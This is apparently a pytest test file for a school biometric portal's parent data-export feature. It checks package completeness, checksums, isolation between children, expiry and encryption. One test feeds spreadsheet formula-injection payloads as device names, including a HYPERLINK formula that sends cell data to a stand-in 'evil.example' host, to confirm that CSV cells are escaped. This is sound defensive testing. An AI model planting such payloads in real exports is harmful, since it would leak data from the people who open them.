"""Download (docs/architecture.md): the package is complete, verifiable, valid against the
published schema, for the asking guardian only, and gone after expiry."""

import csv
import hashlib
import io
import json
import zipfile
from datetime import timedelta

import jsonschema
import numpy as np
import pytest
from django.core import mail
from django.utils import timezone

from biometrics import demo_photos
from biometrics.models import FaceTemplate, Holder, Photo, RecognitionEvent
from biometrics.services import photo_enrol
from consent.models import AuditEvent
from portal.exports import export_build, export_expire_due, export_request
from portal.models import Export

from .conftest import bearer_client
from .factories import TEST_ACTOR, guardian, link


def build(child, parent):
    export = export_request(student=child, guardian=parent)
    return export_build(export_id=export.pk)


def download(api, export) -> zipfile.ZipFile:
    r = api.get(f"/api/v1/exports/{export.pk}/download/")
    assert r.status_code == 200
    body = b"".join(r.streaming_content)
    assert len(body) == export.size
    assert hashlib.sha256(body).hexdigest() == export.sha256
    return zipfile.ZipFile(io.BytesIO(body))


@pytest.fixture
def rich_child(enrolled_child_a, child_b, purposes):
    photo_enrol(
        student=enrolled_child_a,
        data=demo_photos.grace_hopper_half(),
        actor=TEST_ACTOR,
        process_now=True,
    )
    now = timezone.now()
    for i in range(30):
        RecognitionEvent.objects.create(
            student=enrolled_child_a,
            purpose=purposes["gate_access"],
            device="Main gate",
            distance=0.3,
            at=now - timedelta(hours=i),
        )
        # another child seen by the same camera: must never appear in A's package
        RecognitionEvent.objects.create(
            student=child_b,
            purpose=purposes["gate_access"],
            device="Main gate",
            distance=0.41,
            at=now - timedelta(hours=i, minutes=5),
        )
    return enrolled_child_a


def test_package_is_complete_valid_and_verifiable(api_a, rich_child, parent_a, child_b, client):
    export = build(rich_child, parent_a)
    assert export.status == "ready"
    assert export.expires_at - export.completed_at == timedelta(hours=72)
    package = download(api_a, export)
    names = set(package.namelist())
    for required in (
        "index.html",
        "data.json",
        "templates.csv",
        "recognition_events.csv",
        "access_log.csv",
        "SHA256SUMS",
    ):
        assert required in names
    assert any(n.startswith("consent_receipts/") for n in names)

    # SHA256SUMS verifies every file
    sums = dict(
        reversed(line.split("  ", 1)) for line in package.read("SHA256SUMS").decode().splitlines()
    )
    assert set(sums) == names - {"SHA256SUMS"}
    for name, digest in sums.items():
        assert hashlib.sha256(package.read(name)).hexdigest() == digest

    # data.json is valid against the published schema
    schema = client.get("/api/v1/schema/export.json").json()
    data = json.loads(package.read("data.json"))
    jsonschema.validate(data, schema)
    assert data["recognition_events"]["count"] == 30
    assert len(data["recognition_events"]["items"]) == 30

    # photos are byte-identical to what was enrolled
    originals = {
        hashlib.sha256(b).hexdigest()
        for b in (demo_photos.grace_hopper(), demo_photos.grace_hopper_half())
    }
    photos = [n for n in names if n.startswith("photos/")]
    assert len(photos) == 2
    assert {hashlib.sha256(package.read(n)).hexdigest() for n in photos} == originals
    assert {p.sha256 for p in Photo.objects.filter(student=rich_child)} == originals

    # each template row equals the API's embedding
    rows = list(csv.reader(io.StringIO(package.read("templates.csv").decode())))
    assert len(rows[0]) == 129 and len(rows) == 3
    for row in rows[1:]:
        api_embedding = api_a.get(f"/api/v1/children/{rich_child.pk}/templates/{row[0]}/").json()[
            "embedding"
        ]
        assert np.allclose([float(x) for x in row[1:]], api_embedding)
        assert len(row[1:]) == 128

    # nothing about any other child
    raw = b"".join(package.read(n) for n in names)
    assert str(child_b.pk).encode() not in raw
    assert str(child_b.subject_id).encode() not in raw
    assert b"Child B" not in raw
    assert b"0.41" not in package.read("recognition_events.csv")

    # the readable summary covers every Art 15(1) element
    html = package.read("index.html").decode()
    for section in (
        'id="purposes"',
        'id="categories"',
        'id="recipients"',
        'id="retention"',
        'id="rights"',
        'id="complaints"',
        'id="source"',
        'id="automated"',
    ):
        assert section in html
    assert "trained on adults" in html
    # the download was logged as an access, and the parent was emailed
    assert AuditEvent.objects.filter(action="export.downloaded").count() == 1
    assert any("ready" in m.subject for m in mail.outbox)


def test_the_stored_file_is_encrypted(rich_child, parent_a, media_dir):
    export = build(rich_child, parent_a)
    blob = (media_dir / export.storage_name).read_bytes()
    assert not blob.startswith(b"PK")
    assert demo_photos.grace_hopper()[300:360] not in blob


def test_another_parent_gets_404(api_b, child_b, rich_child, parent_a, api_a):
    export = build(rich_child, parent_a)
    assert api_b.get(f"/api/v1/exports/{export.pk}/").status_code == 404
    assert api_b.get(f"/api/v1/exports/{export.pk}/download/").status_code == 404
    assert api_b.post(f"/api/v1/children/{rich_child.pk}/exports/").status_code == 404
    # even the child's other guardian cannot use this parent's link
    other = guardian("other.parent@example.com")
    link(other, rich_child)
    assert bearer_client(other).get(f"/api/v1/exports/{export.pk}/download/").status_code == 404


def test_expired_link_answers_410_and_the_file_is_gone(
    api_a, web_a, rich_child, parent_a, media_dir
):
    export = build(rich_child, parent_a)
    stored = media_dir / export.storage_name
    assert stored.exists()
    Export.objects.filter(pk=export.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    r = api_a.get(f"/api/v1/exports/{export.pk}/download/")
    assert r.status_code == 410
    assert r.json()["error"] == "expired"
    assert not stored.exists()
    page = web_a.get(f"/exports/{export.pk}/download/")
    assert page.status_code == 410
    assert "expired" in page.content.decode()
    assert api_a.get(f"/api/v1/exports/{export.pk}/").json()["status"] == "expired"


def test_expiry_job_deletes_files(rich_child, parent_a, media_dir):
    export = build(rich_child, parent_a)
    assert export_expire_due(now=timezone.now() + timedelta(hours=71)) == 0
    assert export_expire_due(now=timezone.now() + timedelta(hours=73)) == 1
    assert not (media_dir / export.storage_name).exists()


def test_a_holder_that_does_not_answer_is_named_as_unreachable(api_a, rich_child, parent_a):
    Holder.objects.create(
        school=rich_child.school,
        name="Canteen till",
        base_url="http://127.0.0.1:9",
        secret="s3cret-value",
    )
    export = build(rich_child, parent_a)
    data = json.loads(download(api_a, export).read("data.json"))
    till = next(s for s in data["systems"] if s["name"] == "Canteen till")
    assert till["reachable"] is False
    assert till["checked_at"]


def test_each_guardian_asking_at_once_gets_their_own_package(api_a, rich_child):
    """A second parent asking while the first's package builds gets their own, never an id
    that answers 404 to them (a package is for the guardian who asked, only)."""
    second_parent = guardian("second-parent@example.com")
    link(second_parent, rich_child)
    api_second = bearer_client(second_parent)
    mine = api_a.post(f"/api/v1/children/{rich_child.pk}/exports/").json()["id"]
    theirs = api_second.post(f"/api/v1/children/{rich_child.pk}/exports/").json()["id"]
    assert mine != theirs
    assert api_second.get(f"/api/v1/exports/{theirs}/").status_code == 200
    assert api_second.get(f"/api/v1/exports/{mine}/").status_code == 404
    assert api_a.get(f"/api/v1/exports/{theirs}/").status_code == 404


def test_api_flow_and_one_export_in_progress_per_child(api_a, rich_child):
    first = api_a.post(f"/api/v1/children/{rich_child.pk}/exports/")
    second = api_a.post(f"/api/v1/children/{rich_child.pk}/exports/")
    assert first.status_code == second.status_code == 202
    assert first.json()["id"] == second.json()["id"]
    status = api_a.get(f"/api/v1/exports/{first.json()['id']}/").json()
    assert set(status) >= {
        "id",
        "status",
        "progress",
        "download_url",
        "expires_at",
        "sha256",
        "size",
    }
    assert status["status"] == "pending"
    assert status["download_url"] is None
    export_build(export_id=first.json()["id"])
    ready = api_a.get(f"/api/v1/exports/{first.json()['id']}/").json()
    assert ready["status"] == "ready"
    assert ready["download_url"].endswith("/download/")
    assert len(ready["sha256"]) == 64


def test_index_html_in_the_parents_language(rich_child, parent_a, api_a):
    from django.utils import translation
    from django.utils.translation import gettext

    parent_a.language = "zh-hans"
    parent_a.save()
    export = build(rich_child, parent_a)
    html = download(api_a, export).read("index.html").decode()
    assert 'lang="zh-hans"' in html
    with translation.override("zh-hans"):
        assert gettext("Your rights") in html


def test_template_count_matches(rich_child):
    assert FaceTemplate.objects.filter(student=rich_child).count() == 2


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+SUM(A1:A9)", "@cmd", "-2+3", "\tTab"]


def test_csv_cells_that_start_like_a_formula_are_written_as_text(
    api_a, enrolled_child_a, parent_a, purposes
):
    """A device named like a formula is a name in every spreadsheet: a leading apostrophe in
    recognition_events.csv; data.json keeps the exact value; numbers stay numbers."""
    for i, device in enumerate([*FORMULAS, "Main gate"]):
        RecognitionEvent.objects.create(
            student=enrolled_child_a,
            purpose=purposes["gate_access"],
            device=device,
            distance=0.3,
            at=timezone.now() - timedelta(minutes=i),
        )
    package = download(api_a, build(enrolled_child_a, parent_a))
    rows = list(csv.DictReader(io.StringIO(package.read("recognition_events.csv").decode())))
    devices = {row["device"] for row in rows}
    assert devices == {"'" + f for f in FORMULAS} | {"Main gate"}
    data = json.loads(package.read("data.json"))
    assert {e["device"] for e in data["recognition_events"]["items"]} == {*FORMULAS, "Main gate"}
    templates = list(csv.reader(io.StringIO(package.read("templates.csv").decode())))
    numbers = templates[1][1:]
    assert any(n.startswith("-") for n in numbers)  # negative numbers are not escaped
    assert all(float(n) == float(n) for n in numbers)
